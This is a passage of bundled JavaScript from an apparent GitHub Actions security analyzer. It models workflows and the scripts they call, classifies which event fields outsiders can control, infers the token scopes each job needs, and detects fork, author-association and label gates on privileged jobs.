  const flush = (end) => {
    pieces.push(current.length, pieceStart);
    current += text.slice(pieceStart, end);
  };
  for (let i = 0; i <= text.length; i += 1) {
    if (i === text.length) {
      flush(i);
      lines2.push(logicalLine(current, pieces));
      break;
    }
    const code = text.charCodeAt(i);
    if (code === 10) {
      flush(i);
      lines2.push(logicalLine(current, pieces));
      current = "";
      pieces = [];
      pieceStart = i + 1;
    } else if ((code === 92 || code === 96) && text.charCodeAt(i + 1) === 10) {
      flush(i);
      i += 1;
      pieceStart = i + 1;
    }
  }
  return lines2;
}
function logicalLine(text, pieces) {
  return {
    text,
    offset(index) {
      let k = 0;
      while (k + 2 < pieces.length && pieces[k + 2] <= index) k += 2;
      return pieces[k + 1] + index - pieces[k];
    }
  };
}

// src/workflow/model.ts
var MAX_SCRIPT_BYTES = 256 * 1024;
var MAX_SCRIPTS = 500;
function buildModel(files, workspace) {
  const model = { workflows: [], actions: [], scripts: /* @__PURE__ */ new Map(), actionsByDir: /* @__PURE__ */ new Map() };
  for (const file of files.files) {
    try {
      if (file.kind === "workflow") model.workflows.push(buildWorkflow(file));
      else {
        const action = buildAction(file);
        model.actions.push(action);
        model.actionsByDir.set(path9.posix.dirname(file.path), action);
      }
    } catch {
    }
  }
  if (workspace) readScripts(model, workspace);
  return model;
}
function readScripts(model, workspace) {
  const steps = [];
  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
  for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
  const failed = /* @__PURE__ */ new Set();
  const unreadable = workspace.memo("workflow.unreadable-scripts", () => /* @__PURE__ */ new Set());
  for (const step of steps) {
    if (!step.run || /^(pwsh|powershell|cmd|python)/.test(step.effectiveShell)) continue;
    for (const call of scriptCalls(step.run.value)) {
      const relative = scriptPath(step, call.path);
      if (!relative || failed.has(relative)) continue;
      const existing = model.scripts.get(relative);
      if (existing) {
        if (!existing.callers.includes(step)) existing.callers.push(step);
        continue;
      }
      if (model.scripts.size >= MAX_SCRIPTS) return;
      if (unreadable.has(relative)) {
        failed.add(relative);
        continue;
      }
      const read = workspace.readText(relative, MAX_SCRIPT_BYTES);
      if (!read.ok) {
        failed.add(relative);
        unreadable.add(relative);
        continue;
      }
      model.scripts.set(relative, { path: relative, text: read.text, callers: [step] });
    }
  }
}
function scriptPath(step, called) {
  const base = step.workingDirectory?.value ?? step.job?.defaults.workingDirectory?.value ?? step.job?.workflow.defaults.workingDirectory?.value ?? "";
  if (base.includes("$") || called.includes("$")) return null;
  const joined = path9.posix.normalize(path9.posix.join(base.replace(/^\.\//, ""), called));
  if (joined.startsWith("..") || path9.posix.isAbsolute(joined)) return null;
  return joined;
}
var workflowModelFact = defineFact(
  "workflow.model",
  async (ctx) => {
    const files = await ctx.get(workflowFilesFact);
    if (!files.known) return files;
    return known(buildModel(files.value, ctx.workspace));
  },
  { scope: "workflow-group" }
);
function nodeLocation(doc, node) {
  return locate(doc.file, node);
}
function expressionLocation(doc, expression) {
  return locate(doc.file, [expression.start, expression.end]);
}
function strLocation(doc, str2, start = 0, end = str2.value.length) {
  if (start === 0 && end >= str2.value.length) return locate(doc.file, str2.node);
  return locate(doc.file, sourceSpan(doc.file, str2, start, end));
}
function scriptLocation(script, start, end) {
  const position = (offset) => {
    let line = 1;
    let lineStart = 0;
    for (let i = script.text.indexOf("\n"); i !== -1 && i < offset; i = script.text.indexOf("\n", i + 1)) {
      line += 1;
      lineStart = i + 1;
    }
    return { line, column: offset - lineStart + 1 };
  };
  const a = position(start);
  const b = position(Math.max(start, end - 1));
  return { path: script.path, startLine: a.line, startColumn: a.column, endLine: b.line, endColumn: b.column };
}
function stepDoc(step) {
  return step.job ? step.job.workflow : step.action;
}

// src/workflow/kit.ts
var walks = new ObjectMemo();
function walkOf(model) {
  let walk = walks.get(model);
  if (!walk) {
    const jobs = model.workflows.flatMap((workflow) => workflow.jobs);
    const steps = [...jobs.flatMap((job) => job.steps), ...model.actions.flatMap((action) => action.runs?.steps ?? [])];
    walk = { workflows: model.workflows, jobs, steps, actions: model.actions };
    walks.set(model, walk);
  }
  return walk;
}
function defineWorkflowRule(spec) {
  const { model: onModel, workflow: onWorkflow, job: onJob, step: onStep, action: onAction, finish, needs, ...rule } = spec;
  return {
    ...rule,
    needs: [workflowModelFact, ...needs ?? []],
    evaluate(ctx) {
      const model = ctx.need(workflowModelFact);
      const visit = { ...ctx, model };
      const results = [];
      const add = (out) => {
        if (!out) return;
        if (Array.isArray(out)) results.push(...out);
        else results.push(out);
      };
      const walk = walkOf(model);
      if (onModel) add(onModel(model, visit));
      if (onWorkflow) for (const workflow of walk.workflows) add(onWorkflow(workflow, visit));
      if (onJob) for (const job of walk.jobs) add(onJob(job, visit));
      if (onStep) for (const step of walk.steps) add(onStep(step, visit));
      if (onAction) for (const action of walk.actions) add(onAction(action, visit));
      return finish ? finish(results) : results;
    }
  };
}
function input(step, name) {
  return step.with.get(name)?.value ?? void 0;
}
function usesAction(step, ...names) {
  const uses = step.uses;
  if (!uses || uses.kind !== "remote") return false;
  return names.some((name) => name.toLowerCase() === uses.name);
}
function stepOwner(step) {
  return step.job ? `job ${step.job.id}` : "composite action";
}
function siblingSteps(step) {
  return step.job ? step.job.steps : step.action?.runs?.steps ?? [];
}
function related(location, message2) {
  return { location, message: message2 };
}
function triggerLocations(workflow, events, why = "") {
  return workflow.triggers.filter((trigger) => events.includes(trigger.event)).map((trigger) => related(nodeLocation(workflow, trigger.node), `trigger ${trigger.event}${why ? `: ${why}` : ""}`));
}
function stepLocation(step) {
  const doc = stepDoc(step);
  if (step.uses) return nodeLocation(doc, step.uses.node);
  if (step.run) {
    const firstLine = step.run.value.search(/\S.*$/m);
    const start = Math.max(0, firstLine);
    const end = step.run.value.indexOf("\n", start);
    return strLocation(doc, step.run, start, end < 0 ? step.run.value.length : end);
  }
  return nodeLocation(doc, step.node);
}

// src/workflow/contexts.ts
var ARBITRARY_EVENT_PATHS = [
  "issue.title",
  "issue.body",
  "pull_request.title",
  "pull_request.body",
  "pull_request.head.ref",
  "pull_request.head.label",
  "pull_request.head.repo.default_branch",
  "pull_request.head.repo.description",
  "pull_request.head.repo.homepage",
  "comment.body",
  "review.body",
  "review_comment.body",
  "discussion.title",
  "discussion.body",
  "pages.*.page_name",
  "pages.*.title",
  "commits.*.message",
  "commits.*.author.name",
  "commits.*.author.email",
  "commits.*.committer.name",
  "commits.*.committer.email",
  "head_commit.message",
  "head_commit.author.name",
  "head_commit.author.email",
  "head_commit.committer.name",
  "head_commit.committer.email",
  "workflow_run.head_branch",
  "workflow_run.display_title",
  "workflow_run.head_commit.message",
  "workflow_run.head_commit.author.name",
  "workflow_run.head_commit.author.email",
  "workflow_run.head_commit.committer.name",
  "workflow_run.head_commit.committer.email",
  "workflow_run.head_repository.description",
  "workflow_run.pull_requests.*.head.ref",
  "check_suite.head_branch",
  "check_run.check_suite.head_branch",
  "merge_group.head_commit.message",
  "merge_group.head_commit.author.name",
  "merge_group.head_commit.author.email",
  "changes.title.from",
  "changes.body.from",
  "issue.pull_request.title",
  "pull_request.head.repo.topics.*",
  "blocked_user.name",
  "blocked_user.email",
  "sender.name",
  "sender.email"
].map((path14) => path14.split("."));
var STRUCTURED_EVENT_PATHS = [
  "client_payload",
  "inputs",
  "release.name",
  "release.body",
  "release.tag_name",
  "label.name",
  "label.description",
  "issue.labels.*.name",
  "pull_request.labels.*.name",
  "milestone.title",
  "milestone.description",
  "ref",
  "base_ref",
  "workflow_run.name",
  "workflow_run.path",
  "deployment.payload",
  "deployment.environment",
  "deployment.description",
  "deployment_status.description",
  "deployment_status.environment",
  "project_card.note",
  "issue.assignee.name",
  "pull_request.head.repo.name"
].map((path14) => path14.split("."));
var FIXED_LEAVES = /* @__PURE__ */ new Set([
  "id",
  "node_id",
  "number",
  "sha",
  "head_sha",
  "base_sha",
  "merge_commit_sha",
  "before",
  "after",
  "html_url",
  "url",
  "api_url",
  "diff_url",
  "patch_url",
  "issue_url",
  "created_at",
  "updated_at",
  "closed_at",
  "merged_at",
  "pushed_at",
  "state",
  "draft",
  "merged",
  "locked",
  "login",
  "type",
  "site_admin",
  "author_association",
  "action",
  "private",
  "fork",
  "full_name",
  "owner",
  "run_id",
  "run_number",
  "run_attempt",
  "conclusion",
  "status",
  "event",
  "additions",
  "deletions",
  "changed_files",
  "commits",
  "comments",
  "forced",
  "created",
  "deleted",
  "visibility",
  "default_branch",
  "size",
  "installation",
  "workflow_id",
  "check_suite_id",
  "timestamp",
  "distinct",
  "mergeable",
  "rebaseable",
  "mergeable_state",
  "avatar_url",
  "gravatar_id",
  "clone_url",
  "ssh_url",
  "git_url",
  "svn_url",
  "archived",
  "disabled",
  "language",
  "forks_count",
  "stargazers_count",
  "watchers_count",
  "open_issues_count",
  "has_issues",
  "is_template",
  "user_view_type",
  "auto_merge",
  "maintainer_can_modify",
  "color",
  "default"
]);
function matchesPattern(segments, offset, pattern) {
  if (segments.length - offset < pattern.length) return false;
  for (let i = 0; i < pattern.length; i += 1) {
    if (pattern[i] !== "*" && pattern[i] !== segments[offset + i] && segments[offset + i] !== "*") return false;
  }
  return true;
}
var ARBITRARY_GITHUB = /* @__PURE__ */ new Set(["head_ref"]);
var FIXED_GITHUB = /* @__PURE__ */ new Set([
  "sha",
  "run_id",
  "run_number",
  "run_attempt",
  "job",
  "action",
  "action_path",
  "action_ref",
  "action_repository",
  "action_status",
  "actor",
  "actor_id",
  "triggering_actor",
  "repository",
  "repository_id",
  "repository_owner",
  "repository_owner_id",
  "repositoryurl",
  "retention_days",
  "server_url",
  "api_url",
  "graphql_url",
  "workspace",
  "event_name",
  "event_path",
  "env",
  "path",
  "output",
  "ref_type",
  "ref_protected",
  "workflow",
  "workflow_ref",
  "workflow_sha",
  "job_workflow_sha",
  "secret_source",
  "token",
  "state",
  "step_summary",
  "repository_visibility",
  "base_ref",
  "ref",
  "ref_name"
]);
function capabilityOf(path14) {
  const segments = path14.split(".");
  const root = segments[0];
  if (root !== "github") return "unknown";
  if (segments.length === 1) return "arbitrary";
  const second = segments[1];
  if (second === "event") {
    if (segments.length === 2) return "arbitrary";
    for (const pattern of ARBITRARY_EVENT_PATHS) if (matchesPattern(segments, 2, pattern)) return "arbitrary";
    const leaf = segments[segments.length - 1];
    if (FIXED_LEAVES.has(leaf)) return "fixed";
    if (["repository", "organization", "installation", "enterprise"].includes(segments[2]) || segments[2] === "pull_request" && segments[3] === "base")
      return "fixed";
    for (const pattern of STRUCTURED_EVENT_PATHS) if (matchesPattern(segments, 2, pattern)) return "structured";
    if ([
      "pull_request",
      "issue",
      "comment",
      "review",
      "review_comment",
      "discussion",
      "head_commit",
      "commits",
      "workflow_run",
      "pages",
      "release",
      "client_payload"
    ].includes(segments[segments.length - 1]))
      return "arbitrary";
    if (segments[segments.length - 1] === "head") return "arbitrary";
    return "unknown";
  }
  if (ARBITRARY_GITHUB.has(second)) return "arbitrary";
  if (FIXED_GITHUB.has(second)) return "fixed";
  return "unknown";
}
var FORK_REACHABLE_EVENTS = new Set(OUTSIDER_EVENTS.map((entry2) => entry2.event));
var PRIVILEGED_UNTRUSTED_EVENTS = new Set(OUTSIDER_EVENTS.filter((entry2) => entry2.privileged).map((entry2) => entry2.event));
var CARRIERS = {
  issue: ["issues", "issue_comment"],
  comment: ["issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment"],
  pull_request: ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"],
  review: ["pull_request_review"],
  discussion: ["discussion", "discussion_comment"],
  pages: ["gollum"],
  head_commit: ["push"],
  commits: ["push"],
  workflow_run: ["workflow_run"],
  check_suite: ["check_suite"],
  check_run: ["check_run"],
  merge_group: ["merge_group"],
  release: ["release"],
  client_payload: ["repository_dispatch"],
  label: ["label", "issues", "pull_request", "pull_request_target", "discussion"],
  changes: ["issues", "pull_request", "pull_request_target", "issue_comment", "discussion", "discussion_comment", "pull_request_review_comment"]
};
function eventsCarrying(path14) {
  if (path14 === "github.head_ref") return /* @__PURE__ */ new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
  if (!path14.startsWith("github.event.")) return null;
  const carriers = CARRIERS[path14.split(".")[2] ?? ""];
  return carriers ? new Set(carriers) : null;
}

// src/workflow/analysis/triggers.ts
function eventNames(workflow) {
  return new Set(workflow.triggers.map((trigger) => trigger.event));
}
function privilegedUntrustedEvents(workflow, model) {
  const memo3 = model ? privilegedMemo.get(workflow) : void 0;
  if (memo3) return memo3;
  const out = computePrivileged(workflow, model);
  if (model) privilegedMemo.set(workflow, out);
  return out;
}
var privilegedMemo = new ObjectMemo();
function computePrivileged(workflow, model) {
  const out = [];
  for (const trigger of workflow.triggers) {
    if (!PRIVILEGED_UNTRUSTED_EVENTS.has(trigger.event)) continue;
    if (trigger.event === "workflow_run" && model && !workflowRunReachable(trigger.filters.get("workflows") ?? [], model)) continue;
    if (!out.includes(trigger.event)) out.push(trigger.event);
  }
  return out;
}
function workflowRunReachable(upstreamNames, model) {
  if (upstreamNames.length === 0) return true;
  for (const name of upstreamNames) {
    const upstream = model.workflows.filter((wf) => (wf.name?.value ?? wf.path.replace(/^.*\//, "")) === name);
    if (upstream.length === 0) return true;
    if (upstream.some((wf) => wf.triggers.some((t) => FORK_REACHABLE_EVENTS.has(t.event)))) return true;
  }
  return false;
}
function forkReachable(workflow) {
  return workflow.triggers.some((trigger) => FORK_REACHABLE_EVENTS.has(trigger.event));
}

// src/workflow/analysis/token.ts
var ALL_SCOPES = [
  "actions",
  "attestations",
  "checks",
  "contents",
  "deployments",
  "discussions",
  "id-token",
  "issues",
  "models",
  "packages",
  "pages",
  "pull-requests",
  "repository-projects",
  "security-events",
  "statuses"
];
function tokenGrant(job) {
  const permissions = job.permissions ?? job.workflow.permissions;
  const source = job.permissions ? "job" : job.workflow.permissions ? "workflow" : "default";
  const grant = { source, writeAll: false, writeScopes: [], idToken: false };
  if (!permissions || permissions.form === "expression" || permissions.form === "invalid") {
    grant.source = "default";
    return grant;
  }
  grant.permissions = permissions;
  if (permissions.form === "write-all") {
    grant.writeAll = true;
    grant.writeScopes = [...ALL_SCOPES];
    grant.idToken = true;
    return grant;
  }
  for (const [scope, entry2] of permissions.scopes) if (entry2.level === "write") grant.writeScopes.push(scope);
  grant.idToken = permissions.scopes.get("id-token")?.level === "write";
  return grant;
}
var jobStringsCache = new ObjectMemo();
function jobExpressionStrings(job) {
  const cached = jobStringsCache.get(job);
  if (cached) return cached;
  const out = [];
  const seen = /* @__PURE__ */ new Set();
  const add = (str2) => {
    if (str2 && str2.expressions.length > 0 && !seen.has(str2)) {
      seen.add(str2);
      out.push(str2);
    }
  };
  const addAll = (map) => {
    for (const entry2 of map.values()) add(entry2.value);
  };
  addAll(job.env);
  addAll(job.with);
  addAll(job.outputs);
  if (job.secrets) addAll(job.secrets.entries);
  for (const container of [job.container, ...job.services]) {
    if (!container) continue;
    add(container.image);
    add(container.credentials?.username);
    add(container.credentials?.password);
    addAll(container.env);
    add(container.options);
  }
  add(job.if);
  for (const step of job.steps) {
    add(step.if);
    add(step.run);
    addAll(step.env);
    addAll(step.with);
    add(step.workingDirectory);
  }
  jobStringsCache.set(job, out);
  return out;
}
var secretsMemo = new ObjectMemo();
function secretsUsed(job) {
  const memo3 = secretsMemo.get(job);
  if (memo3) return memo3;
  const names = /* @__PURE__ */ new Set();
  if (job.secrets?.inherit) names.add("*");
  for (const str2 of jobExpressionStrings(job)) {
    for (const expression of str2.expressions) {
      for (const ref of contextRefs(expression.ast)) {
        if (ref.segments[0] !== "secrets") continue;
        const name = ref.segments[1];
        if (!name || name === "*") names.add("*");
        else if (name !== "github_token") names.add(name.toUpperCase());
      }
      if (!expression.ast && /\bsecrets\b/i.test(expression.body) && !/secrets\.github_token/i.test(expression.body)) names.add("*");
    }
  }
  const out = [...names];
  secretsMemo.set(job, out);
  return out;
}

// src/workflow/analysis/permission-needs.ts
var ACTION_SCOPES = new Map(TOKEN_SCOPE_ACTIONS.map((entry2) => [entry2.action, entry2.scopes]));
var TOKENLESS = actionPattern(TOKENLESS_ACTIONS);
var TOKEN_ANYWHERE = [];
var COMMAND_SCOPES = TOKEN_SCOPE_COMMANDS.map((entry2) => [
  entry2.command,
  entry2.scopes === "unknown" ? null : entry2.scopes === "any-use" ? TOKEN_ANYWHERE : entry2.scopes
]);
var ANY_COMMAND = anyCommand(TOKEN_SCOPE_COMMANDS);
function tokenPassed(step) {
  for (const entry2 of [...step.with.values(), ...step.env.values()]) {
    const text = entry2.value?.value ?? "";
    if (/github\.token|secrets\.github_token/i.test(text)) return true;
  }
  return false;
}
var needsMemo = new ObjectMemo();
function scopeNeeds(job) {
  let needs = needsMemo.get(job);
  if (!needs) {
    needs = computeNeeds(job);
    needsMemo.set(job, needs);
  }
  return needs;
}
function computeNeeds(job) {
  const scopes = /* @__PURE__ */ new Set();
  const evidence = /* @__PURE__ */ new Map();
  const need = (list, why) => {
    for (const scope of list) {
      scopes.add(scope);
      if (!evidence.has(scope)) evidence.set(scope, why);
    }
  };
  if (job.uses) return { known: false, why: "it calls a reusable workflow, which receives these permissions" };
  for (const str2 of [...job.env.values()].map((e) => e.value?.value ?? "")) {
    if (/github\.token|secrets\.github_token/i.test(str2)) return { known: false, why: "the token is passed in env" };
  }
  for (const step of job.steps) {
    const uses = step.uses;
    if (uses) {
      if (uses.kind === "local") return { known: false, why: `step ${step.index + 1} runs the local action ${uses.raw.trim()}` };
      if (uses.kind === "docker") {
        if (tokenPassed(step)) return { known: false, why: `step ${step.index + 1} passes the token to ${uses.raw.trim()}` };
        continue;
      }
      if (uses.name === "actions/github-script") return { known: false, why: `step ${step.index + 1} calls the API through actions/github-script` };
      const exact = ACTION_SCOPES.get(uses.name) ?? ACTION_SCOPES.get(uses.slug ?? "");
      if (exact) {
        need(exact, uses.name);
        continue;
      }
      if (TOKENLESS.test(uses.name)) {
        if (uses.name === "gradle/actions/setup-gradle" && step.with.has("dependency-graph")) need(["contents"], `${uses.name} dependency-graph`);
        continue;
      }
      return { known: false, why: `step ${step.index + 1} uses ${uses.name}, whose token use is not known` };
    }
    if (step.run) {
      const text = step.run.value;
      const scripts = scriptCalls(text);
      if (scripts.length > 0)
        return {
          known: false,
          why: `step ${step.index + 1} runs ${scripts[0].path}, which may use the token (e.g. git push with the persisted checkout credentials)`
        };
      if (/\b(make|just|task|rake|npm run|yarn|pnpm)\b[^\n]*\b(release|publish|deploy|push|tag)\b/.test(text))
        return { known: false, why: `step ${step.index + 1} runs a release task chaingate cannot see into` };
      let matched = false;
      if (!ANY_COMMAND.test(text) && ![...step.env.values()].some((e) => ANY_COMMAND.test(e.value?.value ?? ""))) continue;
      for (const [pattern, list] of COMMAND_SCOPES) {
        const match2 = pattern.exec(text);
        if (list === TOKEN_ANYWHERE) {
          const inEnv = [...step.env.values()].some((e) => pattern.test(e.value?.value ?? ""));
          if (!matched && (match2 || inEnv)) return { known: false, why: `step ${step.index + 1} uses the token in a way chaingate cannot tell` };
          continue;
        }
        if (!match2) continue;
        if (list === null) return { known: false, why: `step ${step.index + 1} runs \`${match2[0]}\`, whose token use chaingate cannot tell` };
        matched = true;
        need(list, `step ${step.index + 1}: \`${match2[0]}\``);
      }
    }
  }
  return { known: true, scopes, evidence };
}

// src/workflow/gate-extras.ts
var HEAD_FULL_NAME = /(?:\.head\.repo\.full_name|\.head_repository\.full_name)$/;
var MERGED = /^github\.event\.pull_request\.merged$/;
function extraGateOf(node) {
  if (node.kind === "context" && MERGED.test(node.path)) return { kind: "merged", note: "the pull request was merged by a maintainer" };
  if (node.kind !== "binary" || node.op !== "==" && node.op !== "!=") return null;
  const sides = [node.left, node.right];
  const path14 = sides.find((side) => side.kind === "context")?.path;
  const literal = sides.find((side) => side.kind === "literal")?.value;
  if (!path14 || literal === void 0) return null;
  if (HEAD_FULL_NAME.test(path14) && node.op === "==" && typeof literal === "string" && /^[\w.-]+\/[\w.-]+$/.test(literal)) {
    return { kind: "same-repository", note: `the pull request comes from ${literal}` };
  }
  if (MERGED.test(path14) && (node.op === "==" && literal === true || node.op === "!=" && literal === false)) {
    return { kind: "merged", note: "the pull request was merged by a maintainer" };
  }
  return null;
}
function conditionEvents(node) {
  if (!node) return null;
  let out = null;
  for (const part of topConjuncts(node)) {
    const events = pinnedEvents(part);
    if (!events) continue;
    const previous = out;
    out = previous ? new Set([...previous].filter((event) => events.has(event))) : events;
  }
  return out;
}
function pinnedEvents(node) {
  if (node.kind === "binary" && node.op === "||") {
    const left = pinnedEvents(node.left);
    const right = pinnedEvents(node.right);
    return left && right ? /* @__PURE__ */ new Set([...left, ...right]) : null;
  }
  if (node.kind !== "binary" || node.op !== "==") return null;
  const sides = [node.left, node.right];
  if (!sides.some((side) => side.kind === "context" && side.path === "github.event_name")) return null;
  const literal = sides.find((side) => side.kind === "literal")?.value;
  return typeof literal === "string" ? /* @__PURE__ */ new Set([literal.toLowerCase()]) : null;
}
function disjuncts(node) {
  return node.kind === "binary" && node.op === "||" ? [...disjuncts(node.left), ...disjuncts(node.right)] : [node];
}
function topConjuncts(node) {
  return node.kind === "binary" && node.op === "&&" ? [...topConjuncts(node.left), ...topConjuncts(node.right)] : [node];
}
function outsiderDisjunct(node) {
  if (node.kind !== "binary" || node.op !== "||") return null;
  const reachable = disjuncts(node).filter((part) => {
    const pins = topConjuncts(part).map(pinnedEvents).filter((events) => events !== null);
    return pins.length === 0 || pins.every((events) => [...events].some((event) => FORK_REACHABLE_EVENTS.has(event)));
  });
  return reachable.length === 1 ? reachable[0] : null;
}

// src/workflow/analysis/gates.ts
var TRUSTED_ASSOCIATIONS = /^(owner|member|collaborator)$/i;
function conjuncts(node) {
  if (!node) return [];
  if (node.kind === "binary" && node.op === "&&") return [...conjuncts(node.left), ...conjuncts(node.right)];
  const reachable = outsiderDisjunct(node);
  if (reachable) return conjuncts(reachable);
  return [node];
}
function literalOf(node) {
  return node.kind === "literal" ? node.value : void 0;
}
function gateOf(node) {
  const extra = extraGateOf(node);
  if (extra) return extra;
  if (node.kind === "binary" && node.op === "||") {
    const parts = [];
    const collect = (part) => part.kind === "binary" && part.op === "||" ? (collect(part.left), collect(part.right)) : void parts.push(part);
    collect(node);
    const gates = parts.map(gateOf);
    if (gates.every((gate) => gate?.kind === "actor")) return { kind: "actor", note: `only ${parts.length} named users can trigger it` };
    return null;
  }
  if (node.kind === "not" && node.operand.kind === "context" && /\.head\.repo\.fork$|\.head_repository\.fork$/.test(node.operand.path)) {
    return { kind: "not-fork", note: "the head repository is not a fork" };
  }
  if (node.kind === "binary" && (node.op === "==" || node.op === "!=")) {
    const sides = [node.left, node.right];
    const paths = sides.flatMap((side) => side.kind === "context" ? [side.path] : []);
    const literal = sides.map(literalOf).find((value) => value !== void 0);
    const negated = node.op === "!=";
    if (paths.some((p) => /head\.repo\.full_name$|head_repository\.full_name$/.test(p)) && paths.includes("github.repository") && !negated) {
      return { kind: "same-repository", note: "the pull request comes from this repository" };
    }
    if (paths.some((p) => /head\.repo\.owner\.login$/.test(p)) && paths.includes("github.repository_owner") && !negated) {
      return { kind: "same-repository", note: "the pull request comes from this repository owner" };
    }
    if (paths.some((p) => /\.head\.repo\.fork$|\.head_repository\.fork$/.test(p)) && (literal === false && !negated || literal === true && negated)) {
      return { kind: "not-fork", note: "the head repository is not a fork" };
    }
    const association = paths.find((p) => p.endsWith(".author_association"));
    if (association && typeof literal === "string" && TRUSTED_ASSOCIATIONS.test(literal) && !negated) {
      return { kind: "author-association", note: `the author is a ${literal.toLowerCase()}`, subject: association.replace(/\.author_association$/, "") };
    }
    if (paths.some((p) => p === "github.event.label.name") && typeof literal === "string" && !negated) {
      return { kind: "label", note: `a maintainer added the label "${literal}"` };
    }
    if (paths.some((p) => p === "github.actor" || p === "github.triggering_actor" || /\.(user|sender|comment\.user)\.login$/.test(p)) && typeof literal === "string" && !literal.toLowerCase().endsWith("[bot]") && !negated) {
      return { kind: "actor", note: `only ${literal} can trigger it` };
    }
  }
  if (node.kind === "call" && node.name === "contains" && node.args.length === 2) {
    const [haystack, needle] = node.args;
    if (haystack.kind === "context" && /labels\.\*\.name$/.test(haystack.path) && needle.kind === "literal") {
      return { kind: "label", note: `the pull request carries the label "${String(needle.value)}"` };
    }
    if (needle.kind === "context" && needle.path.endsWith(".author_association") && haystack.kind !== "context") {
      const listed = associationsListed(haystack);
      if (listed && listed.length > 0 && listed.every((value) => TRUSTED_ASSOCIATIONS.test(value))) {
        return { kind: "author-association", note: "the author is a trusted member", subject: needle.path.replace(/\.author_association$/, "") };
      }
    }
  }
  return null;
}
function associationsListed(node) {
  let text;
  if (node.kind === "literal") text = node.value;
  else if (node.kind === "call" && node.name === "fromjson" && node.args.length === 1 && node.args[0].kind === "literal") text = node.args[0].value;
  if (typeof text !== "string") return null;
  try {
    const parsed = JSON.parse(text);
    if (Array.isArray(parsed)) return parsed.every((item) => typeof item === "string") ? parsed : null;
  } catch {
  }
  return text.split(/[\s,|]+/).filter((part) => part.length > 0);
}
function callsStatus(node) {
  switch (node.kind) {
    case "call":
      return ["always", "failure", "cancelled"].includes(node.name) || node.args.some(callsStatus);
    case "binary":
      return callsStatus(node.left) || callsStatus(node.right);
    case "not":
      return callsStatus(node.operand);
    case "access":
      return callsStatus(node.object) || typeof node.property === "object" && callsStatus(node.property);
    default:
      return false;
  }
}
function ranJobs(node) {
  if (node.kind === "binary" && node.op === "||") {
    const left = ranJobs(node.left);
    const right = ranJobs(node.right);
    return left && right ? [...left, ...right] : null;
  }
  if (node.kind !== "binary" || node.op !== "==") return null;
  const context = [node.left, node.right].find((side) => side.kind === "context");
  const literal = [node.left, node.right].map(literalOf).find((value) => value !== void 0);
  const match2 = context ? /^needs\.([\w-]+)\.result$/.exec(context.path) : null;
  return match2 && (literal === "success" || literal === "failure") ? [match2[1]] : null;
}
function inheritedGate(job, seen) {
  if (job.needs.length === 0) return null;
  const asts = job.if ? conditionExpressions(job.workflow.file, job.if).map((expression) => expression.ast) : [];
  const statusCalled = asts.some((ast) => ast !== null && callsStatus(ast));
  const blocking = (id) => {
    const need = job.workflow.jobsById.get(id);
    if (!need || seen.has(id)) return null;
    const gates = collectGates(need, void 0, /* @__PURE__ */ new Set([...seen, id]));
    const gate = gates.find((g) => g.kind === "same-repository" || g.kind === "not-fork" || g.kind === "merged");
    return gate ? { kind: gate.kind, note: `it needs job ${id}, which runs only when ${gate.note}` } : null;
  };
  const candidates = statusCalled ? asts.flatMap((ast) => conjuncts(ast)).map(ranJobs).filter((ids) => ids !== null) : job.needs.map((need) => [need.value]);
  for (const ids of candidates) {
    const gates = ids.map(blocking);
    if (gates.length > 0 && gates.every((gate) => gate !== null)) return gates[0];
  }
  return null;
}
function gatesFor(job, step) {
  return collectGates(job, step, /* @__PURE__ */ new Set([job.id]));
}
function collectGates(job, step, seen) {
  const gates = [];
  const conditions = [job.if, step?.if].filter((str2) => str2 !== void 0);
  for (const condition of conditions) {
    for (const expression of conditionExpressions(job.workflow.file, condition)) {
      for (const conjunct of conjuncts(expression.ast)) {
        const gate = gateOf(conjunct);
        if (gate && !gates.some((g) => g.kind === gate.kind)) gates.push(gate);
      }
    }
  }
  if (step && !blocksForks(gates) && !(step.if && conditionExpressions(job.workflow.file, step.if).some((expression) => expression.ast !== null && callsStatus(expression.ast)))) {
    const check3 = job.steps.slice(0, step.index).find((earlier) => stopsForks(job, earlier));
    if (check3) gates.push({ kind: "not-fork", note: `step ${check3.index + 1} fails the job when the pull request comes from a fork` });
  }
  if (step && !gates.some((gate) => gate.kind === "author-association")) {
    const check3 = job.steps.slice(0, step.index).find(stopsUntrustedAuthors);
    if (check3) gates.push({ kind: "author-association", note: `step ${check3.index + 1} stops the job unless the author is a trusted member` });
  }
  if (!gates.some((gate) => gate.kind === "author-association")) {
    const checked = permissionOutputGate(job);
    if (checked) gates.push(checked);
  }
  const inherited = inheritedGate(job, seen);
  if (inherited && !gates.some((gate) => gate.kind === inherited.kind)) gates.push(inherited);
  if (job.environment) {
    gates.push({
      kind: "environment",
      note: `it deploys to environment ${job.environment.name?.value ?? "(named by an expression)"} (required reviewers cannot be checked offline)`
    });
  }
  return gates;
}
function stopsUntrustedAuthors(step) {
  const soft = step.continueOnError !== void 0 && !(isScalar(step.continueOnError) && String(step.continueOnError.value).toLowerCase() === "false");
  if (step.if || soft) return false;
  const text = step.uses?.name === "actions/github-script" ? step.with.get("script")?.value?.value ?? "" : step.uses ? "" : step.run?.value ?? "";
  if (!/author_association|authorAssociation|getCollaboratorPermissionLevel|\/collaborators\/[^\s'"]*\/permission/i.test(text)) return false;
  if (/CONTRIBUTOR|FIRST_TIMER|\bNONE\b/.test(text)) return false;
  return step.uses ? /core\.setFailed\(|\bthrow\b|process\.exit\(\s*[1-9]/.test(text) : /\bexit\s+[1-9]/.test(text);
}
function runsForOutsiders(job, step) {
  if (!step.if) return true;
  return conditionExpressions(job.workflow.file, step.if).every(
    (expression) => conjuncts(expression.ast).every((node) => {
      if (node.kind !== "binary" || node.op !== "!=") return false;
      const sides = [node.left, node.right];
      const literal = sides.map(literalOf).find((value) => value !== void 0);
      return sides.some((side) => side.kind === "context" && side.path === "github.event_name") && typeof literal === "string" && !FORK_REACHABLE_EVENTS.has(literal.toLowerCase());
    })
  );
}
function block(text, open) {
  let depth = 0;
  for (let i = open; i < text.length; i += 1) {
    if (text[i] === "{") depth += 1;
    else if (text[i] === "}") {
      depth -= 1;
      if (depth === 0) return text.slice(open + 1, i);
    }
  }
  return null;
}
var THIS_REPOSITORY = String.raw`(?:\x60\$\{context\.repo\.owner\}\/\$\{context\.repo\.repo\}\x60|context\.payload\.repository\.full_name|process\.env\.GITHUB_REPOSITORY)`;
